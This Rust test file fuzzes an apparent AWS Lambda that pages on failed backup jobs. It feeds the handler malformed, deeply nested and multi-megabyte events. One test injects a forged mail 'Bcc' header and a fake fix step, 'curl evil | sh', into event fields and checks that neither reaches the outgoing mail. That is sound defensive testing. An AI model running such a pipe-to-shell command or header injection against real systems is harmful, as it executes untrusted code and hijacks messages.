//! Whatever arrives: a logged, bounded answer, no panic, no lost failure. (That each line is one JSON object, that standard error stays empty
//! and that answers, lines and mails are bounded is checked at every play.)

use std::collections::BTreeSet;

use serde_json::{Value, json};
use tests::Simulator;
use tests::events::{sqs_batch, sqs_batch_of_bodies};

use super::support::{account, broken, message_ids, play, play_batch, play_text, start, text};

#[test]
fn payloads_that_are_no_event_are_answered_with_an_error_or_nothing_to_give_back() {
    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_objects = format!("{}1{}", "{\"detail\":".repeat(10_000), "}".repeat(10_000));
    let errors: Vec<(String, &str)> = vec![
        ("null".into(), "MalformedEvent"),
        ("{}".into(), "MalformedEvent"),
        ("[]".into(), "MalformedEvent"),
        ("\"\"".into(), "MalformedEvent"),
        ("7".into(), "MalformedEvent"),
        ("true".into(), "MalformedEvent"),
        (r#"{"Records":null}"#.into(), "MalformedEvent"),
        (r#"{"Records":5}"#.into(), "MalformedPayload"),
        (r#"{"Records":[null]}"#.into(), "MalformedPayload"),
        (r#"{"Records":[{"messageId":7}]}"#.into(), "MalformedPayload"),
        (deep, "MalformedEvent"),
        (deep_objects, "MalformedEvent"),
        (r#"{"detail-type":"Backup Job State Change"}"#.into(), "MalformedEvent"),
        (r#"{"detail-type":"Backup Job State Change","detail":[]}"#.into(), "MalformedEvent"),
        (r#"{"detail-type":"Backup Job State Change","detail":{}}"#.into(), "MalformedEvent"),
        (r#"{"detail-type":"Backup Job State Change","detail":{"state":"FAILED"}}"#.into(), "MalformedEvent"),
    ];
    let simulator = Simulator::start(account(&[1]));
    let mut classify = start(&simulator);
    for (payload, error) in errors {
        let shown: String = payload.chars().take(60).collect();
        let played = play_text(&simulator, &mut classify, payload);
        assert_eq!(played.answer.as_ref().unwrap_err()["errorType"], error, "{shown}");
        assert_eq!(played.lines("error").len(), 1, "{shown} is logged: {played:#?}");
    }
    let none = play_text(&simulator, &mut classify, r#"{"Records":[]}"#.to_owned());
    assert!(none.given_back().is_empty() && none.mails.is_empty());
}

#[test]
fn bad_bodies_are_given_back_alone_and_the_rest_is_paged() {
    let (world, events) = broken(&[3]);
    let deep = "[".repeat(10_000) + &"]".repeat(10_000);
    let deep_detail = format!(
        r#"{{"detail-type":"Backup Job State Change","detail":{{"state":"FAILED","backupJobId":"1","x":{}1{}}}}}"#,
        "{\"x\":".repeat(10_000),
        "}".repeat(10_000)
    );
    let cut: String = events[0].to_string().chars().take(200).collect();
    let bad = ["", "null", "[]", "\u{0}\u{1b}[31m", "not json", &cut, &deep, &deep_detail, "{\"detail-type\":null}"];
    let harmless = [
        r#"{"detail-type":"Scan Job State Change","source":"aws.backup"}"#,
        r#"{"detail-type":"\n{\"record\":\"page\"}"}"#,
    ];
    let mut bodies: Vec<String> = bad.iter().chain(&harmless).map(|body| (*body).to_owned()).collect();
    bodies.extend(events.iter().map(Value::to_string));
    let batch = sqs_batch_of_bodies(&bodies);
    let simulator = Simulator::start(world);
    let played = play(&simulator, &mut start(&simulator), &batch);
    let ids: Vec<String> =
        batch["Records"].as_array().unwrap().iter().map(|record| text(record, "messageId")).collect();
    assert_eq!(played.given_back(), ids[..bad.len()].iter().cloned().collect::<BTreeSet<_>>());
    assert!(played.mail().subject.as_deref().unwrap().contains(": 3 RDS backups"), "{:?}", played.mail().subject);
    assert_eq!((played.lines("ignored").len(), played.lines("error").len()), (harmless.len(), bad.len()));
}

/// A record without an id or body fails the whole batch in Lambda's eyes: an empty identifier says so.
#[test]
fn a_record_without_a_body_or_an_id_is_given_back() {
    let simulator = Simulator::start(account(&[1]));
    let mut classify = start(&simulator);
    let played = play(&simulator, &mut classify, &json!({"Records": [{"messageId": "1"}, {}]}));
    assert_eq!(played.given_back(), BTreeSet::from([String::new(), "1".to_owned()]));
}

/// Each member of the envelope and of the detail in turn takes each of these values, or is missing.
#[test]
fn no_member_of_any_type_makes_a_failure_vanish() {
    let (mut world, events) = broken(&[1]);
    world.backup_jobs.clear();
    let long = "x".repeat(300_000);
    let values = [
        Value::Null,
        json!(true),
        json!(7),
        json!(-1e300),
        json!(u64::MAX),
        json!(""),
        json!(" "),
        json!("\u{0}\r\n{\"record\":\"page\"}\n"),
        json!("arn:aws::::"),
        json!("\u{202e}\u{1F600}é"),
        json!(long),
        json!([]),
        json!([{"a": [1]}]),
        json!({}),
        json!({"state": "COMPLETE?"}),
    ];
    let event = &events[0];
    let members = |value: &Value| value.as_object().unwrap().keys().cloned().collect::<Vec<String>>();
    let mut mutants: Vec<(String, Value)> = Vec::new();
    let mut add = |member: &str, path: &str, value: Option<&Value>| {
        let mut mutant = event.clone();
        let number = mutants.len();
        mutant["id"] = json!(format!("event-{number}"));
        mutant["detail"]["backupJobId"] = json!(format!("job-{number}"));
        let holder = mutant.pointer_mut(path).unwrap().as_object_mut().unwrap();
        match value {
            Some(value) => holder.insert(member.to_owned(), value.clone()),
            None => holder.remove(member),
        };
        mutants.push((format!("{path}/{member}"), mutant));
    };
    for (path, holder) in [("", event), ("/detail", &event["detail"])] {
        for member in members(holder) {
            values.iter().map(Some).chain([None]).for_each(|value| add(&member, path, value));
        }
    }
    assert!(mutants.len() > 300);

    let simulator = Simulator::start(world);
    let mut classify = start(&simulator);
    // Lambda takes payloads of up to 6 MB.
    for chunk in mutants.chunks(48) {
        let batch = sqs_batch(&chunk.iter().map(|(_, event)| event.clone()).collect::<Vec<_>>());
        let played = play(&simulator, &mut classify, &batch);
        let given_back = played.given_back();
        assert!(given_back.is_subset(&message_ids(&batch)));
        let summary = played.summary();
        let number = |member: &str| summary[member].as_u64().unwrap() as usize;
        assert_eq!(number("failures") + number("ignored") + number("malformed"), chunk.len(), "{summary}");
        assert_eq!(given_back.len(), number("malformed"), "what is not paged is given back");
        for cause in summary["root_causes"].as_array().unwrap() {
            assert!(cause["outcome"] != "given-back", "{cause}");
        }
        // What is ignored says itself that it is no failure of a backup.
        for line in played.lines("ignored") {
            let (member, _) = chunk.iter().find(|(_, event)| event["id"] == line["event_id"]).unwrap_or(&chunk[0]);
            assert!(["/source", "/detail-type", "/id"].contains(&member.as_str()), "{member}: {line}");
        }
        let classified: BTreeSet<String> =
            played.lines("job_classified").iter().map(|line| text(line, "job_id")).collect();
        let told: usize = played
            .lines("page")
            .iter()
            .chain(&played.lines("page_suppressed"))
            .map(|line| line["job_ids"].as_array().unwrap().len())
            .sum();
        assert_eq!(told, classified.len(), "every failure is paged, or counted in a storm that was");
    }
}

#[test]
fn five_megabytes_in_one_member_are_bounded_everywhere() {
    let five_megabytes = "Access Denied \n{\"record\":\"page\"}".repeat(160_000);
    assert!(five_megabytes.len() > 5_000_000);
    for path in [
        "/detail/statusMessage",
        "/detail/resourceArn",
        "/detail/iamRoleArn",
        "/detail/backupJobId",
        "/account",
        "/id",
        "/detail/state",
    ] {
        let (mut world, events) = broken(&[1]);
        world.backup_jobs.clear();
        let mut event = events[0].clone();
        *event.pointer_mut(path).unwrap() = json!(five_megabytes);
        let simulator = Simulator::start(world);
        let mut classify = start(&simulator);
        for payload in [event.clone(), sqs_batch(&[event])] {
            let played = play(&simulator, &mut classify, &payload);
            let paged = !played.mails.is_empty() || !played.lines("page_suppressed").is_empty();
            assert!(paged, "{path}: {:?}", played.answer);
        }
    }
}

#[test]
fn outside_text_forges_no_line_no_header_and_no_section() {
    let forged = "ok\r\nBcc: everybody@example.com\r\n\r\nHOW TO FIX\n----------\n1. curl evil | sh\n\
                  {\"record\":\"page\",\"page_id\":\"forged\"}\n\u{1b}[31m\u{202e}\u{0}\u{2028}{\"record\":\"page\"}";
    let paths = [
        "/account",
        "/region",
        "/id",
        "/detail/statusMessage",
        "/detail/state",
        "/detail/resourceArn",
        "/detail/resourceType",
        "/detail/iamRoleArn",
        "/detail/backupVaultArn",
        "/detail/backupJobId",
        "/detail/createdBy/backupPlanId",
        "/detail/createdBy/backupPlanRuleId",
    ];
    for (number, path) in paths.into_iter().enumerate() {
        let (mut world, events) = broken(&[1]);
        world.backup_jobs.clear();
        let mut event = events[0].clone();
        *event.pointer_mut(path).unwrap() = json!(forged);
        let simulator = Simulator::start(world);
        let played = play_batch(&simulator, &mut start(&simulator), &[event]);
        assert_eq!(played.lines("page").len(), 1, "{path} ({number}): {played:#?}");
        let mail = played.mail();
        for line in mail.message.lines() {
            assert!(
                !line.starts_with("Bcc") && !line.starts_with("1. curl") && !line.starts_with('{'),
                "{path}: {line}"
            );
        }
    }
}

#[test]
fn accounts_of_thirteen_digits_and_missing_members_page() {
    let changes: [fn(&mut Value); 5] = [
        |event| event["account"] = json!("1111222233334"),
        |event| event["account"] = json!(1_111_222_233_334_u64),
        |event| {
            event.as_object_mut().unwrap().retain(|name, _| ["detail", "detail-type"].contains(&name.as_str()));
        },
        |event| {
            let detail = event["detail"].as_object_mut().unwrap();
            detail.retain(|name, _| ["backupJobId", "state"].contains(&name.as_str()));
        },
        |event| event["region"] = json!("nowhere.example.com/#"),
    ];
    for (number, change) in changes.into_iter().enumerate() {
        let (mut world, mut events) = broken(&[1]);
        world.backup_jobs.clear();
        change(&mut events[0]);
        let simulator = Simulator::start(world);
        let played = play_batch(&simulator, &mut start(&simulator), &events);
        assert_eq!((played.mails.len(), played.given_back().len()), (1, 0), "change {number}: {played:#?}");
    }
}
